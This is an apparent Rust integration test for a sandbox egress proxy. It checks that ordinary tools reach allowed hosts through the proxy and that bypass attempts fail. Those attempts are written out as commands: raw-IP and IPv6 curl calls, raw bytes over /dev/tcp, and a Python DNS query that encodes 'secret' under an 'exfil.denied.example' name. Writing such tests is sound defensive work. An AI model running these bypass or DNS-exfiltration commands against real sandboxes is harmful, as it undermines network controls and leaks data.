//! End to end through real networked pods: a real bubblewrap pod (the real agent, reached through its exec route),
//! its network namespace redirected to a real egress proxy and DNS responder on this host, and a local HTTPS upstream
//! (a test CA the proxy is given as its upstream CA; names mapped with `upstream_hosts`). With no proxy variables,
//! ordinary tools work inside the pod — curl, Python's urllib, `git clone` (dumb HTTP), `pip install` from a simple
//! index — because the pod trusts the platform CA and resolves allowed names; what the policy does not allow, and
//! every way around the proxy, fails at once.
//!
//! Needs root, `ip`, `nft`, bubblewrap, git, python3 with pip and curl (`scripts/deps`); skipped without root.
//! Run alone with `cargo nextest run -p evershell --test egress_pod`.

use std::collections::{BTreeMap, HashMap};
use std::io::BufRead;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::time::{Duration, Instant};

use evershell_core::exec::{ExecRequest, ExecResult};
use evershell_core::ids::{OrgId, PodId, WorkspaceId};
use evershell_core::lifecycle::PodObservation;
use evershell_proxy::{AllowList, DnsAllowList, DnsConfig, DnsServer, ProxyConfig, ProxyServer};
use evershell_runtime::{LocalRuntime, LocalRuntimeConfig, PodRuntime, PodSpec};
use evershell_snapshot::SnapshotStore;

const NAMES: [&str; 3] = ["web.test", "git.test", "pypi.test"];

/// Kills the child (the upstream server) when the test ends.
struct Child(std::process::Child);

impl Drop for Child {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Stops the pods and deletes the test runtime's host rules when the test ends.
struct Teardown {
    rt: LocalRuntime,
    ports: evershell_runtime::local::NetworkPorts,
}

impl Drop for Teardown {
    fn drop(&mut self) {
        evershell_runtime::local::kill_all_sandboxes(self.rt.pods_dir());
        let t = evershell_runtime::local::network_table(self.ports);
        let _ = Command::new("nft").args(["delete", "table", "inet", &t]).status();
    }
}

fn can_run() -> bool {
    // SAFETY: geteuid has no preconditions.
    let root = unsafe { libc::geteuid() } == 0;
    let tools = ["nft", "ip", "git", "curl", "python3"]
        .iter()
        .all(|t| Command::new(t).arg("--version").stdout(Stdio::null()).stderr(Stdio::null()).status().is_ok());
    root && tools
}

fn run(cmd: &mut Command) {
    let out = cmd.output().unwrap();
    assert!(out.status.success(), "{cmd:?}: {}", String::from_utf8_lossy(&out.stderr));
}

/// The upstream's files: a page, a bare repository served as dumb HTTP, and a simple index with one wheel.
fn upstream_files(root: &Path, scratch: &Path) {
    std::fs::write(root.join("index.html"), "hello from web.test\n").unwrap();
    let src = scratch.join("src");
    let git = |args: &[&str]| {
        let mut c = Command::new("git");
        c.args(["-c", "user.name=t", "-c", "user.email=t@t", "-c", "init.defaultBranch=main"]).args(args);
        run(&mut c);
    };
    git(&["init", "-q", src.to_str().unwrap()]);
    std::fs::write(src.join("README"), "cloned through the egress proxy\n").unwrap();
    git(&["-C", src.to_str().unwrap(), "add", "README"]);
    git(&["-C", src.to_str().unwrap(), "commit", "-q", "-m", "first"]);
    let bare = root.join("repo.git");
    git(&["clone", "-q", "--bare", src.to_str().unwrap(), bare.to_str().unwrap()]);
    git(&["-C", bare.to_str().unwrap(), "update-server-info"]);
    // A wheel and its index page, written by Python's zipfile (hashes in RECORD and in the link).
    let script = r#"
import base64, hashlib, os, sys, zipfile
root = sys.argv[1]
os.makedirs(f"{root}/packages", exist_ok=True)
os.makedirs(f"{root}/simple/evtestpkg", exist_ok=True)
files = {
    "evtestpkg/__init__.py": b"VALUE = 'installed through the egress proxy'\n",
    "evtestpkg-0.1.dist-info/METADATA": b"Metadata-Version: 2.1\nName: evtestpkg\nVersion: 0.1\n",
    "evtestpkg-0.1.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}
def h(b):
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(b).digest()).rstrip(b"=").decode()
record = "".join(f"{n},{h(b)},{len(b)}\n" for n, b in files.items()) + "evtestpkg-0.1.dist-info/RECORD,,\n"
whl = f"{root}/packages/evtestpkg-0.1-py3-none-any.whl"
with zipfile.ZipFile(whl, "w") as z:
    for n, b in files.items():
        z.writestr(n, b)
    z.writestr("evtestpkg-0.1.dist-info/RECORD", record)
digest = hashlib.sha256(open(whl, "rb").read()).hexdigest()
with open(f"{root}/simple/evtestpkg/index.html", "w") as f:
    f.write(f'<html><body><a href="../../packages/evtestpkg-0.1-py3-none-any.whl#sha256={digest}">evtestpkg-0.1-py3-none-any.whl</a></body></html>\n')
"#;
    run(Command::new("python3").arg("-c").arg(script).arg(root));
}

/// A TLS static-file server on 127.0.0.1 (Python's http.server), its port.
fn upstream_server(root: &Path, cert: &Path, key: &Path) -> (Child, u16) {
    let script = r#"
import http.server, ssl, sys, os
os.chdir(sys.argv[1])
class H(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *a):
        pass
srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(sys.argv[2], sys.argv[3])
srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
print(srv.server_address[1], flush=True)
srv.serve_forever()
"#;
    let mut child = Command::new("python3")
        .arg("-c")
        .arg(script)
        .args([root, cert, key])
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let port = line.trim().parse().unwrap_or_else(|_| panic!("upstream did not start: {line:?}"));
    (Child(child), port)
}

async fn sh(rt: &LocalRuntime, pod: PodId, script: &str) -> ExecResult {
    let req = ExecRequest {
        argv: vec!["/bin/bash".into(), "-c".into(), script.into()],
        stdin: None,
        env: BTreeMap::new(),
        timeout_ms: Some(60_000),
    };
    rt.agent(pod).exec(&req).await.unwrap()
}

/// Runs `script`, which must fail, and within `within`.
async fn fails_at_once(rt: &LocalRuntime, pod: PodId, script: &str, within: Duration) -> ExecResult {
    let started = Instant::now();
    let r = sh(rt, pod, script).await;
    assert_ne!(r.exit_code, Some(0), "{script} succeeded: {r:?}");
    assert!(started.elapsed() < within, "{script} took {:?}: {r:?}", started.elapsed());
    r
}

#[tokio::test]
async fn ordinary_tools_work_through_the_proxy_and_nothing_gets_around_it() {
    if !can_run() {
        eprintln!("skipped: needs root, nft, ip, git, curl and python3");
        return;
    }
    let _ = rustls::crypto::ring::default_provider().install_default();
    let tmp = tempfile::tempdir().unwrap();
    let (root, scratch) = (tmp.path().join("www"), tmp.path().join("scratch"));
    std::fs::create_dir_all(&root).unwrap();
    std::fs::create_dir_all(&scratch).unwrap();
    upstream_files(&root, &scratch);

    // The upstream's own CA and certificate (the proxy is told to trust the CA; pods never see it).
    let ca_key = rcgen::KeyPair::generate().unwrap();
    let mut ca_params = rcgen::CertificateParams::default();
    ca_params.distinguished_name.push(rcgen::DnType::CommonName, "test upstream CA");
    ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    let ca_cert = ca_params.self_signed(&ca_key).unwrap();
    let issuer = rcgen::Issuer::new(ca_params, ca_key);
    let leaf_key = rcgen::KeyPair::generate().unwrap();
    let leaf = rcgen::CertificateParams::new(NAMES.iter().map(|n| n.to_string()).collect::<Vec<_>>())
        .unwrap()
        .signed_by(&leaf_key, &issuer)
        .unwrap();
    let (ca_file, cert_file, key_file) =
        (scratch.join("upstream-ca.pem"), scratch.join("leaf.pem"), scratch.join("leaf.key"));
    std::fs::write(&ca_file, ca_cert.pem()).unwrap();
    std::fs::write(&cert_file, leaf.pem()).unwrap();
    std::fs::write(&key_file, leaf_key.serialize_pem()).unwrap();
    let (_upstream, port) = upstream_server(&root, &cert_file, &key_file);
    let upstream: std::net::SocketAddr = ([127, 0, 0, 1], port).into();

    // The proxy and the DNS responder, on all addresses (pods reach them through their veth's host end).
    let mut config = ProxyConfig::new(tmp.path().join("egress-ca"));
    config.upstream_ca_file = Some(ca_file);
    config.system_roots = false;
    config.upstream_hosts = NAMES.iter().map(|n| (n.to_string(), upstream)).collect::<HashMap<_, _>>();
    let dns_config = DnsConfig::for_proxy(&config);
    let gate = Arc::new(AllowList::new(NAMES));
    let proxy = ProxyServer::bind("0.0.0.0:0".parse().unwrap(), config, gate.clone()).await.unwrap();
    let dns_policy = Arc::new(DnsAllowList::new(NAMES));
    let dns = DnsServer::bind("0.0.0.0:0".parse().unwrap(), dns_config, dns_policy.clone()).await.unwrap();
    let ports =
        evershell_runtime::local::NetworkPorts { proxy: proxy.local_addr().port(), dns: dns.local_addr().port() };

    let snapshots = SnapshotStore::local(&tmp.path().join("snapshots")).unwrap();
    let mut cfg =
        LocalRuntimeConfig::new(tmp.path().join("pods"), PathBuf::from(env!("CARGO_BIN_EXE_evershell")), snapshots);
    cfg.network = Some(ports);
    cfg.egress_ca_file = Some(proxy.ca().cert_path());
    let t = Teardown { rt: LocalRuntime::new(cfg).unwrap(), ports };
    let rt = &t.rt;
    assert!(rt.networked());
    let s = PodSpec { pod_id: PodId::new(), org_id: OrgId::new(), workspace_id: WorkspaceId::new() };
    rt.prepare(&s, None).await.unwrap();
    rt.start(&s).await.unwrap();
    let deadline = Instant::now() + Duration::from_secs(20);
    while rt.observe(s.pod_id).await.unwrap() != PodObservation::Running {
        assert!(Instant::now() < deadline, "the pod did not come up");
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    let pod = s.pod_id;

    // No proxy variables in the pod.
    let r = sh(rt, pod, "env | grep -i _proxy; echo end").await;
    assert_eq!(r.stdout, "end\n", "{r:?}");

    // DNS: allowed names resolve, others do not (and are reported).
    let r = sh(rt, pod, "getent hosts web.test").await;
    assert!(r.stdout.starts_with("192.0.2.1"), "{r:?}");
    fails_at_once(rt, pod, "getent hosts denied.example", Duration::from_secs(10)).await;
    let denials = dns_policy.wait_for_denials(1).await;
    assert!(denials.iter().any(|d| d.name == "denied.example"), "{denials:?}");

    // Ordinary tools, no flags.
    let r = sh(rt, pod, "curl -sS https://web.test/").await;
    assert_eq!((r.exit_code, r.stdout.as_str()), (Some(0), "hello from web.test\n"), "{r:?}");
    let r = sh(rt, pod, "python3 -c \"import urllib.request; print(urllib.request.urlopen('https://web.test/').read().decode(), end='')\"").await;
    assert_eq!((r.exit_code, r.stdout.as_str()), (Some(0), "hello from web.test\n"), "{r:?}");
    let r = sh(rt, pod, "git clone -q https://git.test/repo.git /workspace/clone && cat /workspace/clone/README").await;
    assert_eq!((r.exit_code, r.stdout.as_str()), (Some(0), "cloned through the egress proxy\n"), "{r:?}");
    let r = sh(
        rt,
        pod,
        "python3 -m pip install -q --no-cache-dir --disable-pip-version-check --break-system-packages \
         --target /workspace/site --index-url https://pypi.test/simple/ evtestpkg && \
         PYTHONPATH=/workspace/site python3 -c 'import evtestpkg; print(evtestpkg.VALUE)'",
    )
    .await;
    assert_eq!((r.exit_code, r.stdout.as_str()), (Some(0), "installed through the egress proxy\n"), "{r:?}");

    // What the policy does not allow: a name that resolves nowhere, and one forced to an address — the gate's 403.
    fails_at_once(rt, pod, "curl -sS https://denied.example/", Duration::from_secs(10)).await;
    let r = sh(
        rt,
        pod,
        "curl -s -o /dev/null -w '%{http_code}' --resolve denied.example:443:192.0.2.1 https://denied.example/",
    )
    .await;
    assert_eq!(r.stdout, "403", "{r:?}");

    // Every way around it fails at once.
    let quick = Duration::from_secs(5);
    fails_at_once(rt, pod, "curl -sS -6 https://web.test/", quick).await;
    fails_at_once(rt, pod, "curl -sS -g 'https://[2001:db8::1]/'", quick).await;
    fails_at_once(rt, pod, "curl -sS https://192.0.2.1/", quick).await;
    // Plain HTTP to a raw address: the gate answers 403 (never forwarded).
    fails_at_once(rt, pod, "curl -sS -f --max-time 4 http://192.0.2.1:22/", quick).await;
    // Non-HTTP bytes on 443: the proxy closes the connection without a byte back.
    let r = sh(
        rt,
        pod,
        "exec 3<>/dev/tcp/web.test/443 && printf 'SSH-2.0-OpenSSH_9.0\\r\\n' >&3 && timeout 4 cat <&3 | wc -c",
    )
    .await;
    assert_eq!(r.stdout.trim(), "0", "{r:?}");
    // DNS to an outside resolver lands on the responder (NXDOMAIN for a denied name, reported), never outside.
    let query = r#"
import socket, struct
q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
for label in b"c2VjcmV0.exfil.denied.example".split(b"."):
    q += bytes([len(label)]) + label
q += b"\0" + struct.pack(">HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(4)
s.sendto(q, ("8.8.8.8", 53))
r = s.recv(512)
print(r[3] & 15)
"#;
    let r = sh(rt, pod, &format!("python3 -c '{query}'")).await;
    assert_eq!(r.stdout.trim(), "3", "{r:?}");
    let denials = dns_policy.wait_for_denials(2).await;
    assert!(denials.iter().any(|d| d.name == "c2vjcmv0.exfil.denied.example"), "{denials:?}");
    assert_eq!(dns.lookups(), 0, "an allowed name is mapped; nothing went to the host's resolver");

    rt.remove(pod).await.unwrap();
    rt.shutdown().await;
    dns.shutdown().await;
    proxy.shutdown().await;
}
